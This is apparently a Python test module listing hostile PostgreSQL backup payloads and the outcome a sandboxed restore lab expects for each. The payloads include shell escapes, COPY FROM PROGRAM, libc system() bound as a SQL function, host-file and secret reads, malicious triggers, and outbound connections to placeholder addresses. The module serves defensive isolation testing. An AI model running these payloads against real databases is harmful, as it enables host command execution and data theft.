"""Hostile backups of PostgreSQL that run, read, write and call: with psql's own commands, and through the server."""

from __future__ import annotations

from typing import Final

from hostile.cases import Case, Rows, on_both

from restore_lab.findings import Code

PG: Final = Rows(engine="postgresql", prefix="postgresql-")
_WITHIN: Final = "it ran within the machine, and every row is there"
_QUICK: Final = 'engine = { kind = "postgresql", load_timeout_seconds = 6 }'
_AWAY: Final = "host=@ADDRESS@ port=@PORT@ user=x dbname=x connect_timeout=3"
_ATTACK: Final = "CREATE TABLE public.attack (line text);"
_FIRE: Final = "BEGIN COPY public.attack FROM PROGRAM '@SH@'; END"

#: Commands of the client.
_CLIENT: Final = (
    *on_both(PG.passes("shell", r"`\!` in a dump", r"\! @SH@", _WITHIN, runs=True, daily=True)),
    PG.failed(
        "shell-restricted", r"`\!` between `\restrict` and `\unrestrict`", "", Code.LOAD_ERRORS, within=r"\! @SH@"
    ),
    PG.passes(
        "copy-to-client-program",
        r"`\copy ... to program`",
        r"\copy public.patient to program '@SH@'",
        _WITHIN,
        runs=True,
    ),
    PG.passes("output-pipe", r"`\o` into a command", "\\o |@SH@\nSELECT 1;\n\\o", _WITHIN, runs=True),
    PG.passes("answer-pipe", r"`\g` into a command", r"SELECT 1 \g |@SH@", _WITHIN, runs=True),
    PG.passes("backtick", r"a command in backticks in `\set`", "\\set x `@SH@`\n\\echo :x", _WITHIN, runs=True),
    PG.passes(
        "prompt",
        "a command in backticks in the prompt",
        "\\set PROMPT1 '%`@SH@`'\nSELECT 1;",
        "psql shows its prompt to a terminal only",
    ),
    PG.passes("edit", r"`\edit` with an editor of its own", "\\setenv PSQL_EDITOR '@SH@;'\n\\edit", _WITHIN, runs=True),
    PG.failed(
        "include",
        r"`\i`, `\ir`: files of the host read as SQL",
        "\\i @FOLDER@/read.sql\n\\ir @FOLDER@/read.sql\n\\i /etc/passwd",
        Code.LOAD_ERRORS,
    ),
    PG.failed(
        "client-files",
        r"`\o`, `\w`, `\s`, `\lo_import`, `\copy`, `\cd` with paths of the host",
        """
\\o @FOLDER@/@TOKEN@
SELECT 1;
\\o
\\w @FOLDER@/@TOKEN@
\\s @FOLDER@/@TOKEN@
\\lo_import @FOLDER@/secret
\\copy public.patient to '@FOLDER@/@TOKEN@'
\\cd @FOLDER@
""",
        Code.LOAD_ERRORS,
    ),
    *on_both(
        PG.unknown("connect", r"`\connect` to a server on the network", f'\\connect "{_AWAY}"', Code.SERVER_FAILED)
    ),
    PG.unknown(
        "connect-abstract",
        r"`\connect` to an abstract Unix socket of the host",
        '\\connect "host=@/canary port=@PORT@ dbname=x connect_timeout=3"',
        Code.SERVER_FAILED,
    ),
    PG.unknown(
        "watch", r"`\watch`: a question without end", r"SELECT 1 \watch 0.1", Code.LOAD_TIMED_OUT, options=_QUICK
    ),
)
#: What the server runs, reads and writes for a superuser.
_SERVER: Final = (
    *on_both(
        PG.passes(
            "copy-from-program",
            "`COPY ... FROM PROGRAM`",
            f"{_ATTACK}\nCOPY public.attack FROM PROGRAM '@SH@';",
            _WITHIN,
            runs=True,
        )
    ),
    PG.passes("copy-to-program", "`COPY ... TO PROGRAM`", "COPY public.patient TO PROGRAM '@SH@';", _WITHIN, runs=True),
    *on_both(
        PG.failed(
            "read-file",
            "`pg_read_file`: a secret of the host as the name of a table",
            "DO $$ BEGIN EXECUTE format('CREATE TABLE public.%I (id int)', pg_read_file('@FOLDER@/secret')); END $$;",
            Code.LOAD_ERRORS,
        )
    ),
    PG.failed(
        "large-objects",
        "`lo_import`, `lo_export` with paths of the host",
        """
SELECT lo_import('@FOLDER@/secret');
SELECT lo_export(lo_from_bytea(0, 'x'), '@FOLDER@/@TOKEN@');
SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/@TOKEN@');
""",
        Code.LOAD_ERRORS,
    ),
    PG.failed(
        "copy-to-file",
        "`COPY ... TO` files of the host",
        "COPY public.patient TO '@FOLDER@/@TOKEN@';\nCOPY public.patient TO '/dev/shm/@TOKEN@';",
        Code.LOAD_ERRORS,
    ),
    PG.unknown(
        "untrusted-languages",
        "`plperlu`, `plpython3u`: functions that may do anything",
        """
CREATE EXTENSION plperlu;
CREATE EXTENSION plpython3u;
CREATE FUNCTION public.f() RETURNS int LANGUAGE plpython3u AS $$ import os; os.system('@SH@') $$;
SELECT public.f();
""",
        Code.EXTENSION_ABSENT,
    ),
    PG.failed(
        "library-function",
        "`system` of the C library as a function; a file of the host loaded as a library",
        """
CREATE FUNCTION public.system(cstring) RETURNS int LANGUAGE c STRICT
AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';
SELECT public.system('@SH@');
LOAD '@FOLDER@/secret';
""",
        Code.LOAD_ERRORS,
        Code.EXTENSION_ABSENT,
    ),
    PG.unknown(
        "library-written",
        "a library written with `lo_export`, then loaded",
        "SELECT lo_export(lo_from_bytea(0, '\\x7f454c46'), '/tmp/evil.so');\nLOAD '/tmp/evil.so';",
        Code.EXTENSION_ABSENT,
    ),
    PG.passes(
        "alter-system",
        "`ALTER SYSTEM`: archive_command, restore_command, listen_addresses",
        """
ALTER SYSTEM SET archive_mode = on;
ALTER SYSTEM SET archive_command = '@SH@';
ALTER SYSTEM SET restore_command = '@SH@';
ALTER SYSTEM SET listen_addresses = '*';
SELECT pg_reload_conf();
SELECT pg_switch_wal();
SELECT pg_sleep(1);
""",
        "our server's own settings stand on its command line, which outweighs them",
    ),
    PG.unknown(
        "preload-library",
        "`ALTER DATABASE`: a library for every later session",
        "ALTER DATABASE restored SET session_preload_libraries = '/tmp/evil';",
        Code.SERVER_FAILED,
    ),
    PG.passes(
        "preload-library-of-role",
        "`ALTER ROLE postgres`: a library for its later sessions",
        "ALTER ROLE postgres SET session_preload_libraries = '/tmp/evil';",
        "we ask as another superuser",
    ),
    PG.passes(
        "event-trigger",
        "an event trigger that runs a command at every further statement",
        f"""
{_ATTACK}
CREATE FUNCTION public.fire() RETURNS event_trigger LANGUAGE plpgsql AS $$ {_FIRE} $$;
CREATE EVENT TRIGGER fire ON ddl_command_end EXECUTE FUNCTION public.fire();
CREATE TABLE public.after (id int);
""",
        _WITHIN,
        runs=True,
    ),
    PG.passes(
        "login-trigger",
        "an event trigger at login that runs a command and lets nobody in (from 17 on)",
        f"""
{_ATTACK}
CREATE FUNCTION public.fire() RETURNS event_trigger LANGUAGE plpgsql AS $$
{_FIRE.removesuffix("END")} RAISE EXCEPTION 'nobody comes in'; END $$;
CREATE EVENT TRIGGER fire ON login EXECUTE FUNCTION public.fire();
ALTER EVENT TRIGGER fire ENABLE ALWAYS;
""",
        "our sessions let no event trigger fire",
        series="17",
        machine="container",
    ),
    PG.passes(
        "view-runs",
        "a view that runs a command when it is asked",
        f"""
{_ATTACK}
CREATE FUNCTION public.fire() RETURNS SETOF int LANGUAGE plpgsql AS $$
{_FIRE.removesuffix("END")} RETURN NEXT 1; END $$;
CREATE VIEW public.waiting AS SELECT * FROM public.fire();
""",
        "views are asked by a role that may only read",
        Code.VIEW_UNUSABLE,
    ),
)
#: Who would call out.
_CALLS: Final = (
    *on_both(
        PG.failed(
            "dblink",
            "`dblink_connect` to an address of the host",
            f"CREATE EXTENSION dblink SCHEMA public;\nSELECT public.dblink_connect('{_AWAY}');",
            Code.LOAD_ERRORS,
        )
    ),
    PG.passes(
        "foreign-table",
        "a view of a table on another server (postgres_fdw)",
        """
CREATE EXTENSION postgres_fdw SCHEMA public;
CREATE SERVER away FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '@ADDRESS@', port '@PORT@', dbname 'x');
CREATE USER MAPPING FOR PUBLIC SERVER away OPTIONS (user 'x', password 'x');
CREATE FOREIGN TABLE public.away (id int) SERVER away;
CREATE VIEW public.of_away AS SELECT * FROM public.away;
""",
        "there is no network; the practice's own rows are all there",
        Code.VIEW_UNUSABLE,
    ),
    PG.passes(
        "foreign-file",
        "views of a file of the host and of a command (file_fdw)",
        """
CREATE EXTENSION file_fdw SCHEMA public;
CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE public.ran (line text) SERVER files OPTIONS (program '@SH@');
CREATE VIEW public.of_ran AS SELECT * FROM public.ran;
""",
        _WITHIN,
        runs=True,
    ),
    PG.passes(
        "subscription",
        "a subscription whose worker calls out for as long as the server runs",
        f"""
CREATE SUBSCRIPTION away CONNECTION '{_AWAY}' PUBLICATION p WITH (connect = false, slot_name = 'x');
ALTER SUBSCRIPTION away ENABLE;
SELECT pg_sleep(3);
""",
        "there is no network; every row is there",
    ),
)
CASES: Final[tuple[Case, ...]] = (*_CLIENT, *_SERVER, *_CALLS)
